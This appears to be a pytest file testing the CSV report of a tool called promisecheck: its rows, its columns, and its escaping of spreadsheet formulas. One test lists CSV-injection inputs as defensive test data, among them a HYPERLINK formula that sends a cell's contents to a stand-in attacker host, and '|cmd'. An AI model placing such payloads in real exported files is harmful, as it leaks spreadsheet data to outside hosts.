"""The table for spreadsheets: its rows, and no formula in it."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from promisecheck.reports import render
from promisecheck.reports.csv_report import COLUMNS


def rows(report):
    return list(csv.DictReader(io.StringIO(render("csv", report))))


def test_a_row_for_each_finding_and_for_all_else(many):
    made = rows(many)
    findings = sum(len(document.findings) for document in many.documents)
    assert len(made) == findings + 2
    assert [row["rule"] for row in made[-2:]] == ["not-read", "held-back"]
    assert made[-1]["message"] == "Held back: 2 in the baseline, 1 waived."


def test_a_row_says_all_of_a_finding(many):
    row = rows(many)[0]
    assert row["path"] == "quotes/acme.md"
    assert (row["line"], row["column"], row["end_column"]) == ("14", "25", "52")
    assert (row["severity"], row["code"], row["feature"]) == ("error", "PC301", "scim")
    assert (row["owner"], row["stance"]) == ("identity-support", "promised")
    assert row["sentence"].startswith("Your Team plan includes")


def test_an_empty_report_has_its_head(sample):
    name, report = sample
    if name == "empty":
        assert render("csv", report) == ",".join(COLUMNS) + "\n"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1,"open")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\uff1d1+1",
        "|cmd",
        "%0A=1",
        "'=1",
    ],
)
def test_no_cell_is_a_formula(many, text):
    (document, *_) = many.documents
    found = replace(document.findings[0], message=text, suggestion=f"{text}, and more")
    report = replace(many, documents=(replace(document, path=text, findings=(found,)),))
    for row in rows(report):
        assert not any(cell.lstrip()[:1] in set("=+-@\uff1d|%") for cell in row.values() if cell)
    assert rows(report)[0]["message"].startswith("'")
